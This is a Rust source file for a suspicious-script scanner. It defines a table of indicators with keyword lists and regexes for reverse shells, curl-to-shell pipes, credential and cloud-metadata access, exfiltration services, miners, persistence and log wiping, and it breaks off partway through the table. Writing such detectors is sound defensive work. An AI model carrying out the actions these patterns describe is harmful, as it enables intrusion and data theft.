//! Named indicators: what an analyst looks for in a script, each with the words
//! used to explain a score. An indicator fires when every literal group has a
//! hit (one Aho-Corasick pass over the lowercased text finds them all) and then, where
//! set, its confirming regex matches. Regexes only run on texts that passed
//! the literal gate, which keeps a 64 KiB benign script cheap.

use std::sync::OnceLock;

use aho_corasick::automaton::Automaton;
use aho_corasick::dfa::DFA;
use aho_corasick::{Anchored, MatchKind};
use regex::bytes::Regex;

/// How an indicator is confirmed once its literal groups have all hit.
pub enum Confirm {
    /// The literal groups are enough.
    Literals,
    /// A regex (compiled case-insensitive, ASCII) must match.
    Regex(&'static str),
    /// A match of the regex must satisfy `accept` (given the matched bytes, e.g. an IP that is not loopback).
    RegexWhere(&'static str, fn(&[u8]) -> bool),
    /// The first group's literals together occur at least this often.
    MinCount(u32),
}

pub struct IndicatorDef {
    pub id: &'static str,
    /// Analyst words for the evidence list.
    pub evidence: &'static str,
    /// Each group needs at least one of its literals (ASCII case-insensitive) in the text.
    pub all_of: &'static [&'static [&'static str]],
    pub confirm: Confirm,
}

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch ", "lwp-download", "tftp"];
const PY_DOWNLOADERS: &[&str] = &[
    "urlopen",
    "urlretrieve",
    "requests.get",
    "requests.post",
    "requests.request",
    "httpx.",
    "wget.download",
    "pycurl",
    "aiohttp",
    "http.client",
    // Command words with what follows them, not substrings: `curline`, `wgetrc`.
    "curl ",
    "curl\"",
    "curl'",
    "wget ",
    "wget\"",
    "wget'",
];

/// The indicator table. Order is part of the feature layout: append, never reorder,
/// and bump `FEATURE_VERSION` in `features.rs` when changing it.
pub const INDICATORS: &[IndicatorDef] = &[
    IndicatorDef {
        id: "download_pipe_interpreter",
        evidence: "downloads with curl/wget and pipes it straight into a shell or interpreter",
        all_of: &[&["curl", "wget", "fetch"]],
        confirm: Confirm::Regex(
            r"\b(curl|wget|fetch)\b[^\n|;]*\|\s*(sudo\s+(-\S+\s+)*)?(env\s+)?(/usr(/local)?/bin/|/bin/)?((ba|da|z|k|a)?sh|python[0-9.]*|perl|ruby|php|node)\b|\b((ba|da|z|k)?sh|python[0-9.]*)\s+(-c\s+)?[\x22']?\$\(\s*(curl|wget)|<\(\s*(curl|wget)",
        ),
    },
    IndicatorDef {
        id: "download_then_chmod_x",
        evidence: "downloads a file and marks it executable",
        all_of: &[PY_DOWNLOADERS, &["chmod"]],
        confirm: Confirm::Regex(r"chmod\s+(-[a-z]+\s+)*([ugoa]*\+[rwxs]*x|0?[0-7]?[0-7][1357]\b|[0-7]{3}[1357]\b)|os\.chmod\("),
    },
    IndicatorDef {
        id: "download_to_tmp",
        evidence: "downloads into /tmp, /var/tmp or /dev/shm",
        all_of: &[DOWNLOADERS, &["/tmp", "/dev/shm", "/var/tmp"]],
        confirm: Confirm::Regex(r"\b(curl|wget)\b[^\n;|]*(-o|-O|-P|--output|>)\s*[\x22']?(/tmp|/var/tmp|/dev/shm)|\bcd\s+(/tmp|/var/tmp|/dev/shm)[^\n]*(\n|&&|;)\s*(curl|wget)"),
    },
    IndicatorDef {
        id: "chmod_x_in_tmp",
        evidence: "makes a file in /tmp or /dev/shm executable",
        all_of: &[&["chmod"], &["/tmp", "/dev/shm", "/var/tmp"]],
        confirm: Confirm::Regex(r"chmod\s+(-[a-z]+\s+)*([ugoa]*\+[rwxs]*x|[0-7]?[0-7][0-7][1357])\s+[\x22']?(/tmp|/var/tmp|/dev/shm)/"),
    },
    IndicatorDef {
        id: "exec_from_tmp",
        evidence: "runs a program from /tmp or /dev/shm",
        all_of: &[&["/tmp/", "/dev/shm/", "/var/tmp/", "cd /tmp", "cd /dev/shm", "cd /var/tmp"]],
        confirm: Confirm::Regex(r"(^|\n|[;&|]\s*|nohup\s+|sudo\s+|setsid\s+|(^|[\s;&|])exec\s+)(/tmp|/var/tmp|/dev/shm)/[\w.\-/]+|\bcd\s+(/tmp|/var/tmp|/dev/shm)[^\n]*(&&|;|\n)\s*\./"),
    },
    IndicatorDef {
        id: "dev_tcp",
        evidence: "opens a TCP/UDP connection through /dev/tcp (reverse-shell idiom)",
        all_of: &[&["/dev/tcp/", "/dev/udp/"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "netcat_shell",
        evidence: "wires netcat to a shell (-e/-c or a fifo): reverse or bind shell",
        all_of: &[&["nc", "netcat", "ncat"]],
        confirm: Confirm::Regex(r"\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^\n]*(\s-[a-z]*[ec]\s|\s-[a-z]*[ec]$|/bin/(ba|da|z)?sh)|(mkfifo|mknod)[^\n]*\|\s*(nc|ncat|netcat)\b|\b(nc|ncat|netcat)\b[^\n]*\|\s*(/bin/)?(ba|da)?sh\b"),
    },
    IndicatorDef {
        id: "socat_shell",
        evidence: "socat connecting a shell to the network",
        all_of: &[&["socat"]],
        confirm: Confirm::Regex(r"socat\b[^\n]*(exec|system):"),
    },
    IndicatorDef {
        id: "shell_io_redirect",
        evidence: "interactive shell with its input and output redirected to a socket",
        all_of: &[&[">&", "<&", "<>"]],
        confirm: Confirm::Regex(r"\b(ba|da|z|k)?sh\s+-i\b[^\n]*[<>]&|0>&1|\b0<&\s*\d|\bexec\s+\d+<>\s*/dev/|>&\s*/dev/(tcp|udp)"),
    },
    IndicatorDef {
        id: "python_socket_shell",
        evidence: "Python socket connected out and wired to a shell (dup2/pty/subprocess)",
        all_of: &[
            &["socket"],
            &["connect(", "bind("],
            &["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "cmd.exe", "[\"sh\"", "['sh'", "powershell", "stdin=s", "stdout=s"],
        ],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "pty_spawn",
        evidence: "spawns an interactive PTY shell (pty.spawn)",
        all_of: &[&["pty.spawn", "spawn("], &["pty"]],
        confirm: Confirm::Regex(r"pty\s*\.\s*spawn\s*\(|from\s+pty\s+import\s+spawn"),
    },
    IndicatorDef {
        id: "shell_decode_exec",
        evidence: "decodes (base64/hex/gzip) and runs the result in a shell",
        all_of: &[&["base64", "base32", "xxd", "openssl", "gunzip", "zcat", "rev", "\\x"]],
        confirm: Confirm::Regex(r"(base(64|32)\s+(-[a-z]*d|--decode|-D)|xxd\s+(-[a-z]*r)|openssl\s+(enc\s+)?[^\n|]*-d\b|gunzip|zcat|\brev\b|printf\s+[^\n|]*\\x)[^\n]*\|\s*(sudo\s+)?(/bin/|/usr/bin/)?((ba|da|z|k)?sh|python[0-9.]*|perl)\b|(eval|exec|(ba|da)?sh\s+-c)\s*[\x22']?\$\([^\n)]*(base(64|32)|xxd|openssl|gunzip|rev)"),
    },
    IndicatorDef {
        id: "python_decode_exec",
        evidence: "runs decoded or decompressed data with exec/eval (Python)",
        all_of: &[
            &["exec", "eval"],
            &["b64decode", "b32decode", "b16decode", "a85decode", "b85decode", "decompress", "unhexlify", "fromhex", "marshal.loads", "codecs.decode", "rot13", "rot_13", "[::-1]", "decrypt", "fernet", "zlib", "lzma", "bz2"],
        ],
        confirm: Confirm::Regex(r"\b(exec|eval)\s*\("),
    },
    IndicatorDef {
        id: "python_exec_call",
        evidence: "executes dynamically built code with exec()/eval()",
        all_of: &[&["exec", "eval"]],
        confirm: Confirm::Regex(r"(^|[^\w.])(exec|eval)\s*\(\s*[^\x22'\s)]"),
    },
    IndicatorDef {
        id: "hex_escaped_bytes",
        evidence: "contains hex-escaped byte strings (\\x..)",
        all_of: &[&["\\x"]],
        confirm: Confirm::Regex(r"(\\x[0-9a-f]{2}){8,}"),
    },
    IndicatorDef {
        id: "cron_persistence",
        evidence: "installs a cron job (persistence)",
        all_of: &[&["crontab", "/etc/cron", "/var/spool/cron", "cron.d", "periodic/"]],
        confirm: Confirm::Regex(r"\|\s*crontab\b|crontab\s+(-u\s+\S+\s+)?(/|-\s*($|\n|;|&|\|)|[\w.]+\.\w+)|(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+|\bmv\s+\S+\s+)\s*[\x22']?(/etc/cron|/var/spool/cron|/etc/periodic)|open\([^)\n]*(/etc/cron|/var/spool/cron)"),
    },
    IndicatorDef {
        id: "systemd_initd_persistence",
        evidence: "writes a systemd unit, init script or rc.local (persistence)",
        all_of: &[&["/systemd/", "/init.d", "rc.local", "/etc/rc"]],
        confirm: Confirm::Regex(r"(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+|\bmv\s+\S+\s+|open\(\s*[\x22'])\s*[\x22']?\S*(/etc/systemd/system|/lib/systemd/system|\.config/systemd/user|/etc/init\.d/|/etc/rc\.local|/etc/rc\d\.d)"),
    },
    IndicatorDef {
        id: "ld_so_preload",
        evidence: "hooks every process through /etc/ld.so.preload",
        all_of: &[&["ld.so.preload"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "ld_preload_env",
        evidence: "injects a library with LD_PRELOAD",
        all_of: &[&["ld_preload"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "ssh_authorized_keys",
        evidence: "adds an SSH key to authorized_keys",
        all_of: &[&["authorized_keys"]],
        confirm: Confirm::Regex(r"(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+)\s*[\x22']?\S*authorized_keys|open\([^)\n]*authorized_keys[^)\n]*[\x22'][aw]"),
    },
    IndicatorDef {
        id: "shell_rc_persistence",
        evidence: "appends to shell startup files (.bashrc, /etc/profile) for persistence",
        all_of: &[&["bashrc", "profile", "zshrc", "rc.local"]],
        confirm: Confirm::Regex(r"(>>|\btee\s+-a\s+)\s*[\x22']?\S*(\.bashrc|\.bash_profile|\.profile|\.zshrc|/etc/profile|/etc/bash\.bashrc|/etc/rc\.local|/etc/profile\.d/)"),
    },
    IndicatorDef {
        id: "crypto_miner",
        evidence: "cryptocurrency miner or mining pool (xmrig, stratum+tcp)",
        all_of: &[&[
            "xmrig", "stratum+tcp", "stratum+ssl", "stratum2+", "minerd", "cpuminer", "cryptonight", "randomx", "monero", "nicehash", "nanopool", "minexmr", "supportxmr", "c3pool", "hashvault", "moneroocean", "f2pool", "2miners", "ethermine", "--donate-level", "xmr-stak", "kdevtmpfsi", "kinsing", "coinhive", "lolminer", "nbminer", "phoenixminer", "t-rex", "--coin", "--algo",
        ]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "history_wipe",
        evidence: "clears or disables shell history",
        all_of: &[&["hist"]],
        confirm: Confirm::Regex(r"history\s+-c|unset\s+HISTFILE|HISTFILE=\s*[\x22']?/dev/null|HISTSIZE=[\x22']?0\b|HISTFILESIZE=[\x22']?0\b|set\s+\+o\s+history|(rm|shred|truncate|unlink)[^\n]*\.\w*_history|(^|[;&|]\s*|:\s*|/dev/null\s*|echo\s*(\x22\x22|'')?\s*)>\s*\S*\.(bash|zsh|sh|python)_history|ln\s+-sf?\s+/dev/null\s+\S*_history|HISTCONTROL=ignore"),
    },
    IndicatorDef {
        id: "log_wipe",
        evidence: "wipes or truncates system logs",
        all_of: &[&["/var/log", "wtmp", "btmp", "lastlog", "journalctl", "auth.log", "syslog", "utmp", "log erase", "journald", "-json.log"]],
        confirm: Confirm::Regex(r"\blog\s+erase\b|\b(srm|unlink|shred|rm)\s+(-[a-z]+\s+)*[^\n]*/var/log/(system\.log|syslog|auth\.log|secure|messages|journal)|systemctl\s+(stop|disable|mask)\s+(systemd-journald|rsyslog|syslog)\b|truncate\s+-s\s*0\s+[^\n]*-json\.log|rm\s+-[rf]+\s+[\x22']?/var/log/?(\*|\s|$|[\x22'])|(^|[^>])>\s*/var/log/\S+|truncate\s+[^\n]*(/var/log|wtmp|btmp|lastlog|utmp)|shred\s+[^\n]*(/var/log|wtmp|btmp|lastlog)|/dev/null\s*>\s*/var/log|journalctl\s+[^\n]*--vacuum|\bdd\s+[^\n]*of=\s*/var/log/|rm\s+[^\n]*(wtmp|btmp|lastlog|/var/log/(auth|secure|messages|syslog))"),
    },
    IndicatorDef {
        id: "security_tools_disabled",
        evidence: "disables security tooling (SELinux, firewall, audit, EDR agents)",
        all_of: &[&[
            "setenforce", "selinux", "systemctl", "service", "ufw", "iptables", "auditctl", "kill", "/proc/sys/kernel", "mdatp", "spctl", "mppreference", "realtime", "aegis", "aliyun", "apparmor", "firewalld", "auditd", "falco", "uninstall",
        ]],
        confirm: Confirm::Regex(r"setenforce\s+0|SELINUX=disabled|(systemctl|service)\s+(stop|disable|mask)\s+[^\n]*(firewalld|apparmor|auditd|ufw|iptables|falco|osquery|aliyun|aegis|cloudmonitor|bcm-agent|wazuh|crowdstrike|falcon|sysdig|tetragon|clamav|selinux|yundun|qcloud)|(firewalld|apparmor|auditd|falco|aegis)\s+(stop|disable)|ufw\s+disable|iptables\s+(-F|--flush|-X|-P\s+INPUT\s+ACCEPT)|auditctl\s+-(D|e\s*0)|(pkill|killall|kill\s+-9)[^\n]*(auditd|falco|aliyun|aegis|osquery|wazuh)|(>|\btee\s+(-a\s+)?)\s*[\x22']?/proc/sys/kernel/(nmi_watchdog|randomize_va_space|yama)|mdatp\s+[^\n]*disabled|spctl\s+--master-disable|Set-MpPreference|DisableRealtimeMonitoring|aegis_uninstall|uninstall[^\n]*(aegis|aliyun|qcloud|yunjing)"),
    },
    IndicatorDef {
        id: "credential_access",
        evidence: "reads credential or secret stores (shadow, SSH keys, cloud/kube credentials, wallets)",
        all_of: &[&[
            "/etc/shadow", "/.ssh/id_", ".ssh/id_rsa", "id_ed25519", "id_dsa", ".aws/credentials", ".docker/config.json", ".kube/config", "kubernetes.io/serviceaccount", "serviceaccount/token", ".git-credentials", ".netrc", ".pgpass", "gshadow", "master.passwd", "/etc/security/opasswd", "wallet.dat", "keychain", ".bitcoin", "electrum", "exodus", "metamask", "self/environ", "/1/environ", "/*/environ", "pid/environ", "mimipenguin", "lazagne", "credentials.db", "access_tokens.db", ".vault-token", "gcloud/",
        ]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "cloud_metadata",
        evidence: "queries the cloud instance metadata service (credential theft)",
        all_of: &[&["169.254.169.254", "metadata.google.internal", "100.100.100.200", "latest/meta-data", "computemetadata", "metadata/instance", "fd00:ec2::254", "metadata/identity", "latest/api/token"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "exfil_service",
        evidence: "sends data to a webhook, paste or out-of-band service (Discord/Telegram/pastebin/ngrok)",
        all_of: &[&[
            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh/", "ngrok.io", "ngrok.app", "ngrok-free", "ngrok.dev", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin.net", "requestbin.com", "requestb.in", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
        ]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "public_ip_lookup",
        evidence: "looks up the machine's public IP or geolocation",
        all_of: &[&["ipinfo.io", "ip-api.com", "ifconfig.me", "api.ipify.org", "icanhazip", "checkip", "ipecho", "myexternalip", "wtfismyip", "ident.me", "geolocation-db", "ipapi.co"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "browser_token_stealer",
        evidence: "steals browser passwords/cookies or Discord tokens",
        all_of: &[
            &["leveldb", "login data", "cryptunprotectdata", "win32crypt", "local state", "web data"],
            &["appdata", "roaming", "localappdata", "google\\chrome", "google/chrome", "discord", "opera", "brave", "yandex", "microsoft\\edge", "mozilla"],
        ],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "windows_lolbins",
        evidence: "runs Windows LOLBins (PowerShell, cmd, certutil, mshta, bitsadmin)",
        all_of: &[&["powershell", "cmd.exe", "cmd /c", "certutil", "mshta", "bitsadmin", "regsvr32", "rundll32", "wscript", "cscript", "schtasks", "-encodedcommand", "start /b", "vbs"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "windows_exe_dropper",
        evidence: "downloads and starts a Windows executable",
        all_of: &[&[".exe", ".scr\"", ".scr'", ".scr ", ".bat", ".vbs", ".dll"], PY_DOWNLOADERS],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "windows_persistence",
        evidence: "Windows persistence or stealth (Run key, startup folder, hidden files, startfile)",
        all_of: &[&["currentversion\\run", "currentversion\\\\run", "start menu\\programs\\startup", "startup", "attrib +h", "os.startfile", "ctypes.windll", "winreg", "_winreg", "creationflags", "startf_useshowwindow"]],
        confirm: Confirm::Regex(r"CurrentVersion\\+Run|\\Startup|attrib\s+\+h|os\.startfile|ctypes\.windll|\b_?winreg\b|creationflags\s*=\s*(0x08000000|subprocess\.CREATE_NO_WINDOW)|STARTF_USESHOWWINDOW"),
    },
    IndicatorDef {
        id: "setup_py_install_hook",
        evidence: "runs commands at pip-install time (setup.py install hook)",
        all_of: &[
            &["cmdclass", "command.install", "command.develop", "command.egg_info", "install.run(", "setup("],
            &["os.system", "subprocess", "urlopen", "requests.", "exec(", "popen", "socket", "urlretrieve", "__import__", "eval("],
        ],
        confirm: Confirm::Regex(r"cmdclass|command\.(install|develop|egg_info)|class\s+\w+\s*\(\s*(install|develop|egg_info)\b"),
    },
    IndicatorDef {
        id: "python_download_exec",
        evidence: "downloads from the network and runs commands or the payload (Python)",
        all_of: &[PY_DOWNLOADERS, &["os.system", "subprocess", "exec(", "popen", "os.startfile", "os.chmod", "check_output", "os.exec"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "raw_ip_url",
        evidence: "contacts a hard-coded IP address (not loopback or link-local) instead of a host name",
        all_of: &[&["://", "connect((", "@"]],
        confirm: Confirm::RegexWhere(
            r"(?:(?:https?|ftp|tcp|udp|ssh)://|connect\(\(\s*[\x22']|@)\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b",
            public_ip,
        ),
    },
    IndicatorDef {
        id: "python_chr_obfuscation",
        evidence: "builds strings from chr() codes (obfuscation)",
        all_of: &[&["chr("]],
        confirm: Confirm::MinCount(8),
    },
    IndicatorDef {
        id: "string_reversal",
        evidence: "reverses strings before use (obfuscation)",
        all_of: &[&["[::-1]", "rev"]],
        confirm: Confirm::Regex(r"\[::-1\]|\|\s*rev\b"),
    },
    IndicatorDef {
        id: "shell_quote_splitting",
        evidence: "splits command names with quotes or escapes (c''url, w\\get)",
        all_of: &[&["''", "\"\"", "$@"]],
        confirm: Confirm::Regex(r"(^|[\s;|&(])[a-z]{1,6}(''|\x22\x22|\$@)[a-z]{1,6}\b"),
    },
    IndicatorDef {
        id: "shell_var_slicing",
        evidence: "assembles commands from variable substrings or character tables",
        all_of: &[&["${", "$'\\"]],
        confirm: Confirm::Regex(r"(\$\{\w+:\d+:\d+\}[^\n]{0,40}){4,}|(\$'\\[0-7x][0-9a-f]{1,3}'?[^\n]{0,4}){6,}"),
    },
    IndicatorDef {
        id: "python_dynamic_import",
        evidence: "dynamic import or builtins lookup to hide what is called",
        all_of: &[&["__import__", "__builtins__", "globals()[", "getattr(", "importlib"]],
        confirm: Confirm::Regex(r"__import__\s*\(\s*[\x22']?(os|subprocess|base64|socket|zlib|marshal|builtins|pty|ctypes|requests|urllib)|__builtins__\s*[.\[]|getattr\(\s*__import__|globals\(\)\s*\[\s*[\x22']"),
    },
    IndicatorDef {
        id: "python_packer",
        evidence: "packed or obfuscated with a Python packer (marshal, pyarmor, lambda-obfuscation)",
        all_of: &[&["marshal.loads", "pyarmor", "obfuscated by", "obfuscated with", "blankobf", "hyperion", "kramer", "lambda _", "___", "pyobfuscate", "development-tools.net", "berserk"]],
        // `lambda _:` and underscore runs are ordinary Python on their own (docstring
        // rulers, throwaway arguments): only their packer shapes count.
        confirm: Confirm::Regex(r"marshal\.loads|pyarmor|obfuscated\s+(by|with)|blankobf|hyperion|kramer|pyobfuscate|development-tools\.net|berserk|\blambda\s+_+\s*:[^\n]{0,80}(__import__|exec|eval|\[::-1\]|b64decode|decompress)|(^|\n|;)\s*_{3,}\s*=\s*(eval|exec|__import__|getattr|compile|lambda|[\x22']\\)"),
    },
    IndicatorDef {
        id: "privilege_backdoor",
        evidence: "privilege escalation or backdoor account (setuid, sudoers, uid-0 user)",
        all_of: &[&["chmod", "nopasswd", "sudoers", "useradd", "/etc/passwd", ":0:0", "usermod", "setuid", "+s"]],
        confirm: Confirm::Regex(r"chmod\s+(-[a-z]+\s+)*([ugo]*\+[a-z]*s|[2467][0-7]{3})\b|NOPASSWD|(>>|\btee\s+-a)\s*[\x22']?/etc/sudoers|useradd\s+[^\n]*-o\b[^\n]*-u\s*0\b|useradd\s+[^\n]*-u\s*0\b[^\n]*-o\b|(>>|\btee\s+-a)\s*[\x22']?/etc/passwd|:0:0:[^\n]*(>>|tee)|usermod\s+[^\n]*-G\s+(sudo|wheel|root)|os\.setuid\(\s*0\s*\)"),
    },
    IndicatorDef {
        id: "container_escape",
        evidence: "container escape technique (docker.sock, nsenter into pid 1, cgroup release_agent, host mounts)",
        all_of: &[&["docker.sock", "nsenter", "release_agent", "notify_on_release", "core_pattern", "/proc/1/", "chroot", "-v /:", "--pid", "--privileged", "mount", "/host"]],
        confirm: Confirm::Regex(r"docker\.sock|nsenter\s+[^\n]*(-t\s*1\b|--target[= ]1\b|-a\b)|release_agent|notify_on_release|/proc/sys/kernel/core_pattern|-v\s+/:/|--pid[= ]host|/proc/1/root|chroot\s+/(host|mnt)\b|--privileged[^\n]*(-v\s+/:|chroot|nsenter)|mount\s+[^\n]*/dev/([sv]d[a-z]|nvme|xvd)"),
    },
    IndicatorDef {
        id: "kill_competitors",
        evidence: "kills competing miners or malware",
        all_of: &[&["kill", "pkill"], &["xmr", "miner", "kinsing", "kdevtmpfsi", "stratum", "watchbog", "sysupdate", "networkservice", "ddgs", "kthreaddi", "cryptonight", "aliyun", "/tmp/", "grep -v"]],
        confirm: Confirm::Regex(r"(pkill|killall|kill\s+-9)[^\n]*(xmr|miner|kinsing|kdevtmpfsi|watchbog|sysupdate|networkservice|ddgs|kthreaddi|cryptonight|/tmp/)|ps\s+[^\n]*grep[^\n]*(xmr|miner|stratum|kinsing|kdevtmpfsi)[^\n]*(kill|awk)|grep\s+-v\s+[^\n]*\|\s*awk[^\n]*\|\s*xargs\s+(-[a-z]+\s+)*kill"),
    },
    IndicatorDef {
        id: "chattr_lock",
        evidence: "locks or unlocks files with chattr (anti-removal)",
        all_of: &[&["chattr"]],
        confirm: Confirm::Regex(r"chattr\s+(-R\s+)?[+-][ia]"),
    },
    IndicatorDef {
        id: "process_hiding",
        evidence: "hides or renames a process (bind-mount over /proc, exec -a, prctl)",
        all_of: &[&["/proc/", "libprocesshider", "exec -a", "prctl", "pr_set_name", "setproctitle"]],
        confirm: Confirm::Regex(r"mount\s+(-o\s+bind|--bind|-B)\s+\S+\s+/proc/|libprocesshider|\bexec\s+-a\s|prctl\s*\(|PR_SET_NAME|setproctitle"),
    },
    IndicatorDef {
        id: "shell_escape_spawn",
        evidence: "spawns an interactive /bin/sh from another program (shell escape)",
        all_of: &[&["/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/ash"]],
        confirm: Confirm::Regex(r"[\x22']/bin/(ba|z|da|a)?sh[\x22']|(^|[^#])!/bin/(ba|z|da)?sh|\bexec\s+/bin/(ba|z|da)?sh|/bin/(ba|z|da)?sh\s+-(i|p)\b|os\.exec\w*\(\s*[\x22']/bin/|os\.system\(\s*[\x22']/bin/(ba|z)?sh|spawn\s+/bin/(ba)?sh"),
    },
    IndicatorDef {
        id: "tor_proxy",
        evidence: "uses Tor (.onion) or proxy chains",
        all_of: &[&[".onion", "torsocks", "proxychains", "tor2web", "socks5h://"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "scanner_tools",
        evidence: "network scanning or brute-force tools (nmap, masscan, hydra)",
        all_of: &[&["masscan", "zmap", "nmap", "hydra", "medusa", "pnscan", "zgrab"]],
        confirm: Confirm::Regex(r"\b(masscan|zmap|nmap|hydra|medusa|pnscan|zgrab2?)\b"),
    },
    IndicatorDef {
        id: "ssh_lateral",
        evidence: "spreads over SSH using known_hosts or non-interactive logins",
        all_of: &[&["known_hosts", "stricthostkeychecking", "sshpass", "batchmode"]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "keylog_screenshot",
        evidence: "captures keystrokes or screenshots",
        all_of: &[&["pynput", "keyboard.on_press", "getasynckeystate", "imagegrab", "pyautogui.screenshot", "setwindowshookex", "keylogger", "mss.mss", "screenshot("]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "curl_upload",
        evidence: "uploads local files with curl (exfiltration)",
        all_of: &[&["curl"]],
        confirm: Confirm::Regex(r"\bcurl\s+[^\n]*(-F\s*[\x22']?\w*=@|--upload-file|\s-T\s|--data(-binary)?\s+[\x22']?@|\s-d\s+[\x22']?@)"),
    },
    IndicatorDef {
        id: "background_detach",
        evidence: "starts a detached background process that survives the shell",
        all_of: &[&["nohup", "setsid", "disown", "2>&1"]],
        confirm: Confirm::Regex(r"\bnohup\s+[^\n]*&|\bsetsid\s+\S|\bdisown\b|>\s*/dev/null\s+2>&1\s*&\s*($|\n|;)"),
    },
    IndicatorDef {
        id: "tls_checks_disabled",
        evidence: "downloads with certificate checks disabled",
        all_of: &[&["curl", "--no-check-certificate", "verify", "_create_unverified_context", "cert_none"]],
        confirm: Confirm::Regex(r"\bcurl\s+[^\n]*(-[a-z]*k\b|--insecure)|--no-check-certificate|verify\s*=\s*False|_create_unverified_context|CERT_NONE"),
    },
    IndicatorDef {
        id: "python_shell_command",
        evidence: "runs shell commands from Python (os.system/popen/shell=True)",
        all_of: &[&["os.system", "os.popen", "shell=true", "getoutput", "commands."]],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "python_socket",
        evidence: "opens a raw network socket (Python)",
        all_of: &[&["socket"]],
        confirm: Confirm::Regex(r"socket\.socket\(|\bsocket\(\s*(socket\.)?AF_INET|\.connect\(\(|create_connection\("),
    },
    IndicatorDef {
        id: "discovery_recon",
        evidence: "host and user discovery commands (whoami, id, uname, /etc/passwd)",
        all_of: &[&["whoami", "uname -a", "/etc/passwd", "hostname", "ifconfig", "ip a", "netstat", "ps aux", "getuid", "/etc/issue", "/proc/version", "lsb_release", "getuser", "platform.uname"]],
        confirm: Confirm::Regex(r"\bwhoami\b|uname\s+-a|cat\s+/etc/(passwd|issue|group|hosts)|\bifconfig\b|\bnetstat\s+-|/proc/version|\bid\s*(;|$|&&|\|)|ps\s+aux|getpass\.getuser|platform\.uname|socket\.gethostname"),
    },
    IndicatorDef {
        id: "env_exfil",
        evidence: "collects environment variables or system info and sends it out",
        all_of: &[&["os.environ", "printenv", "env |", "getpass", "platform.", "gethostname", "getuser", "/etc/passwd"], PY_DOWNLOADERS],
        confirm: Confirm::Literals,
    },
    IndicatorDef {
        id: "shell_spawn_argument",
        evidence: "starts /bin/sh from inside another command (shell escape or spawn)",
        all_of: &[&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ash", "/bin/ksh"]],
        // Not on comment, shebang or doctest lines (`#! /bin/sh`, `# init=/bin/sh`, `>>> run(["/bin/sh"])`),
        // and only after something on the same line.
        confirm: Confirm::Regex(r"(^|\n)[ \t]*[^#\s>][^\n]*[ \t=\x22'(:;,`]/bin/(ba|da|z|k|a)?sh\b|[^#\n]!/bin/(ba|da|z|k|a)?sh\b"),
    },
    IndicatorDef {
        id: "setup_py_custom_command",
        evidence: "setup.py overrides the install/develop command (code runs at pip-install time)",
        all_of: &[&["cmdclass", "command.install", "command.develop", "command.egg_info", "command.build", "install_scripts"]],
        confirm: Confirm::Regex(r"cmdclass\s*=|class\s+\w+\s*\(\s*(install|develop|egg_info|build_py|install_scripts|_install)\s*\)"),
    },
    IndicatorDef {
        id: "python_toplevel_command",
        evidence: "runs a shell command or network call at import time, outside any function (setup.py/__init__.py style)",
        all_of: &[
            &["import "],
            &["os.system", "subprocess.", "popen", "exec(", "eval(", "urlopen", "requests.", "urlretrieve", "socket."],
        ],
        confirm: Confirm::Regex(r"(?m:^)(os\.system|os\.popen|subprocess\.\w+|exec|eval|urllib\.request\.urlopen|urlopen|urlretrieve|requests\.(get|post))\s*\("),
    },    IndicatorDef {
        id: "binary_shell_escape",
        evidence: "makes an ordinary program run a shell (find -exec sh, !sh, system(\"/bin/sh\"), --shell-escape, checkpoint actions)",
        all_of: &[&[
            "-exec", "!/bin/", "! /bin/", "!sh", "!bash", "system(", "exec ", "exec(", "execute(", "shell-escape", "write18", "checkpoint-action", "proxycommand", "use-askpass", "script-security", "unixexec", ".shell",
        ]],
        confirm: Confirm::Regex(r"-exec\s+(/usr)?(/bin/)?(ba|da|z|k)?sh\s*(-[pi]\s*)?(\\;|;|\+|$|\n)|(^|\n|:|\\)\s*!\s*(/usr)?(/bin/)?(ba|da|z|k)?sh\b|\b(system|exec|execute)\s*\(?\s*[\x22'](/usr)?(/bin/)?(ba|da|z|k)?sh\b|--shell-escape|\\(immediate)?\\?write18|--checkpoint-action=exec|ProxyCommand\s*=\s*;|--use-askpass|--script-security\s+2|unixexec:|\.shell\s+(/bin/)?(ba|da)?sh\b"),
    },
    IndicatorDef {
        id: "shell_history_read",
        evidence: "reads or copies another shell's history (secrets typed on the command line)",
        all_of: &[&["_history"]],
        confirm: Confirm::Regex(r"\b(cat|less|more|grep|egrep|strings|tail|head|cp|scp|tar|zip|base64|curl|nc)\b[^\n|;]*\.(bash|zsh|sh|mysql|psql|python)_history|open\([^)\n]*_history[\x22']\s*\)"),
    },
    IndicatorDef {
        id: "network_listener",
        evidence: "listens for incoming connections with netcat, socat or openssl (bind shell or catcher)",
        all_of: &[&["nc", "ncat", "netcat", "socat", "s_server"]],
